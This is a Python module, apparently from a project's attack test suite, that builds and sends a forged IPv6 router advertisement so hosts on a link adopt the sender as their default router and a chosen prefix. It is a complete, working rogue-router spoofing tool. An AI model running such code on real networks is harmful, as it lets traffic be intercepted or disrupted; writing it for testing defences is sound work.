# SPDX-License-Identifier: Apache-2.0
"""Pretend to be the IPv6 router of everybody on a link (RFC 4861, 4.2): who believes it takes an address of the prefix
and sends all his packets here."""

import argparse
import ipaddress
import struct

from tests.attacks import packet

ETH_P_IPV6 = 0x86DD
ADVERTISEMENT = 134
ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
LIFETIME_S = 1800


def advertise(interface: str, prefix: str = "2001:db8:bad::/64", source: str | None = None) -> None:
    """Send one advertisement by `interface`, from `source`: by default the link-local address of its MAC address."""
    mac = packet.mac_of(interface)
    packet.send(interface, frame(mac, source or link_local(mac), prefix))


def frame(mac: str, source: str, prefix: str) -> bytes:
    """The frame with an advertisement."""
    network = ipaddress.IPv6Network(prefix)
    message = struct.pack("!BBHBBHII", ADVERTISEMENT, 0, 0, 64, 0, LIFETIME_S, 0, 0)
    # The prefix is on the link (L), and addresses may be formed of it (A).
    message += struct.pack("!BBBBIII", 3, 4, network.prefixlen, 0xC0, LIFETIME_S, LIFETIME_S, 0)
    message += network.network_address.packed
    message += struct.pack("!BB", 1, 1) + packet.mac(mac)
    return packet.ethernet(mac, ALL_NODES_MAC, ETH_P_IPV6, packet.icmp6(source, ALL_NODES, message))


def link_local(mac: str) -> str:
    """The link-local address that is formed of a MAC address (RFC 4291, appendix A)."""
    octets = packet.mac(mac)
    identifier = bytes([octets[0] ^ 2]) + octets[1:3] + b"\xff\xfe" + octets[3:]
    return str(ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + identifier))


def main() -> None:
    """Send one advertisement."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.router_advertisement", description=__doc__)
    parser.add_argument("interface", help="the container's interface, e.g. eth1")
    parser.add_argument("--prefix", default="2001:db8:bad::/64")
    given = parser.parse_args()
    advertise(given.interface, given.prefix)
    print(f"advertised {given.prefix}: see `ip -6 route show default` and `ip -6 address` of the others")


if __name__ == "__main__":
    main()
